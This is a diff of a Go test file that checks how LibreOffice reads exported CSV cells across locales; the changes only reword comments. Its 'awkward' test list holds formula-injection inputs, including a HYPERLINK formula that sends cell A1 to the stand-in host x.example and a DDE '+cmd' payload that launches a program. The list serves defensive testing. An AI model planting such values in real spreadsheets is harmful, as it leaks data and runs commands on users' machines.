@@ -18,8 +18,8 @@ import (
 	"github.com/idleseat/idleseat/shared/sandbox"
 )
 
-// awkward are names of people and departments that cause trouble in spreadsheets. A spreadsheet could evaluate them,
-// split them, or show them in the wrong encoding.
+// The variable awkward has names of people and departments that cause trouble in spreadsheets. A spreadsheet could
+// evaluate them, split them, or show them in the wrong encoding.
 var awkward = []string{
 	`=HYPERLINK("http://x.example/?"&A1;"click")`, `+cmd|' /C calc'!A0`, "@SUM(1;1)", "-2+3", "\t=1+1", "a\r=1+1", "\n=1+1", "＝1+1", " =1+1", `"=1+1"`,
 	"Anna;=1+1;x", "Anna,=1+1,x", `Anna"; =1+1;`, "Anna\u2028=1+1", "Åsa Öberg, ÄÖ", "Müller-Groß; Jürgen", "漢字 太郎", "שרה כהן", `Bo "B" O'Brien`,
@@ -55,7 +55,7 @@ func TestSpreadsheet(t *testing.T) {
 	}
 	for _, tc := range []struct{ locale, written, expected string }{
 		{"en-US", ",", ","}, {"sv-SE", ";", ";"}, {"de-DE", ";", ";"},
-		{"sv-SE", ",", ";"}, {"en-US", ";", ","}, // LibreOffice expects another separator than the file has
+		{"sv-SE", ",", ";"}, {"en-US", ";", ","}, // LibreOffice expects a separator that the file does not have
 	} {
 		t.Run(fmt.Sprintf("%s reads %q as %q", tc.locale, tc.written, tc.expected), func(t *testing.T) {
 			t.Parallel()
@@ -98,7 +98,7 @@ type spreadCell struct {
 	} `xml:"urn:oasis:names:tc:opendocument:xmlns:text:1.0 p"`
 }
 
-// value returns the type and the value of a cell.
+// The method value returns the type and the value of a cell.
 func (c *spreadCell) value() string {
 	switch c.Type {
 	case "float":
@@ -108,15 +108,16 @@ func (c *spreadCell) value() string {
 	case "", "string":
 		var lines []string
 		for _, l := range c.Lines {
-			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // the XML decoder drops a blank
+			lines = append(lines, html.UnescapeString(strings.ReplaceAll(l.XML, "<text:s/>", " "))) // the XML decoder would drop the blank
 		}
 		return strings.Join(lines, "\n")
 	}
 	return fmt.Sprintf("%+v", c)
 }
 
-// opened returns the cells of some CSV files, by the name of the file. The argument "written" is the separator in the
-// files. LibreOffice opens the files with the settings of the locale, and expects the separator "expected".
+// The method opened returns the cells of some CSV files, by the name of the file. The argument "written" is the
+// separator in the files. LibreOffice opens the files with the settings of the locale, and expects the separator
+// "expected".
 func (s *shell) opened(t *testing.T, locale, written, expected string) map[string][][]spreadCell {
 	t.Helper()
 	suffix := map[string]string{",": "-comma", ";": "-semicolon"}[written]
